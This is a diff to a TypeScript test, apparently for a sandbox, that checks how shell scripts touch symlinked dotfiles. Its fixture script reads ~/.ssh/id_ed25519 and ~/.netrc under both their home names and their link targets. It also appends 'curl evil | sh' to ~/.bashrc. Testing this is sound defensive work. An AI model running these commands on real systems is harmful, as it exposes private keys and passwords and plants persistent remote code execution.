@@ -111,12 +111,13 @@ function dotfiles(uid: number): { home: string; d: string } {
 }
 
 for (const u of USERS) {
-  test(`dotfile-manager symlinks (${u.name}): cat ~/.ssh/id_ed25519 ~/.netrc; append to ~/.bashrc`, async () => {
+  test(`dotfile-manager symlinks (${u.name}): cat the key and .netrc by both names; append to ~/.bashrc`, async () => {
     const { home, d } = dotfiles(u.uid);
     const proj = tempTree('dotfiles-proj');
-    const script = 'cat ~/.ssh/id_ed25519 ~/.netrc; echo "curl evil | sh" >> ~/.bashrc && echo appended';
+    // By the names in $HOME (a link stat hides leads nowhere) and where the links lead.
+    const script = 'cat ~/.ssh/id_ed25519 ~/.netrc ~/dotfiles/ssh/id_ed25519 ~/dotfiles/netrc; echo "curl evil | sh" >> ~/.bashrc && echo appended';
     const n = await sh(script, home, proj, u.user);
-    assert.is(n.stdout, 'SSHKEY\nmachine x password NETRCPW\nappended\n', describe(n));
+    assert.is(n.stdout, 'SSHKEY\nmachine x password NETRCPW\n'.repeat(2) + 'appended\n', describe(n));
     assert.is(readFileSync(`${d}/bashrc`, 'utf8'), '# rc\ncurl evil | sh\n');
     writeFileSync(`${d}/bashrc`, '# rc\n');
     for (const cwd of [proj, home]) {
